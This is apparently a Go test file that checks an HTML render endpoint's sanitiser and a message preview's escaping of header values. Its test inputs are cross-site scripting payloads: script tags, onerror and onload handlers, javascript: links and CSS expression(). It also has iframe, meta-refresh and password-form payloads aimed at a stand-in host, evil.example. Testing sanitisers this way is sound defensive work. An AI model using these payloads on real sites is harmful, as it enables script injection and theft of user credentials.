package handlers

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestRender_MaliciousHTML checks that hostile markup never survives the
// render endpoint
func TestRender_MaliciousHTML(t *testing.T) {
	h, _ := setupTestHandlers(t)

	tests := []struct {
		name             string
		input            string
		shouldContain    []string
		shouldNotContain []string
	}{
		{
			name:             "Script tag removal",
			input:            "<p>Hello</p><script>alert('XSS')</script>",
			shouldContain:    []string{"<p>Hello</p>"},
			shouldNotContain: []string{"<script", "alert"},
		},
		{
			name:             "Event handler removal",
			input:            `<img src="x" onerror="alert('XSS')">`,
			shouldNotContain: []string{"onerror", "alert"},
		},
		{
			name:             "JavaScript protocol removal",
			input:            `<a href="javascript:alert('XSS')">Click</a>`,
			shouldContain:    []string{"Click"},
			shouldNotContain: []string{"javascript:"},
		},
		{
			name:             "Iframe removal",
			input:            `<iframe src="https://evil.example"></iframe><p>ok</p>`,
			shouldContain:    []string{"ok"},
			shouldNotContain: []string{"<iframe", "evil.example"},
		},
		{
			name:             "SVG onload removal",
			input:            `<svg onload="alert('XSS')"></svg>`,
			shouldNotContain: []string{"onload", "alert"},
		},
		{
			name:             "Style expression removal",
			input:            `<div style="width:expression(alert(1));color:red">x</div>`,
			shouldContain:    []string{"color:red"},
			shouldNotContain: []string{"expression"},
		},
		{
			name:             "Form removal",
			input:            `<form action="https://evil.example/steal"><input name="pw"></form>`,
			shouldNotContain: []string{"<form", "<input", "evil.example"},
		},
		{
			name:             "Meta refresh removal",
			input:            `<meta http-equiv="refresh" content="0;url=https://evil.example"><p>hi</p>`,
			shouldContain:    []string{"hi"},
			shouldNotContain: []string{"<meta", "evil.example"},
		},
		{
			name:             "Safe content preservation",
			input:            `<p>Safe text</p><a href="https://example.com">Link</a>`,
			shouldContain:    []string{"<p>Safe text</p>", "https://example.com", "Link", `rel="noopener noreferrer"`},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := postJSON(t, h, "/api/render", renderRequest{Message: htmlMessage("", "", tt.input)})
			require.Equal(t, http.StatusOK, rec.Code)

			var resp renderResponse
			require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &resp))
			fragment := resp.ProcessedHTML[strings.Index(resp.ProcessedHTML, "</style>"):]

			for _, expected := range tt.shouldContain {
				assert.Contains(t, fragment, expected)
			}
			for _, notExpected := range tt.shouldNotContain {
				assert.NotContains(t, fragment, notExpected)
			}
		})
	}
}

// TestViewMessage_EscapesMetadata checks that header values are escaped by
// the preview template
func TestViewMessage_EscapesMetadata(t *testing.T) {
	h, _ := setupTestHandlers(t)
	raw := "From: a@example.com\r\n" +
		"Subject: <script>alert(1)</script>\r\n" +
		"Content-Type: text/plain; charset=utf-8\r\n\r\nbody\r\n"
	up := upload(t, h, raw)

	rec := do(t, h, http.MethodGet, "/messages/"+up.ID, nil)

	require.Equal(t, http.StatusOK, rec.Code)
	assert.NotContains(t, rec.Body.String(), "<script>alert(1)</script>")
	assert.Contains(t, rec.Body.String(), "&lt;script&gt;")
}
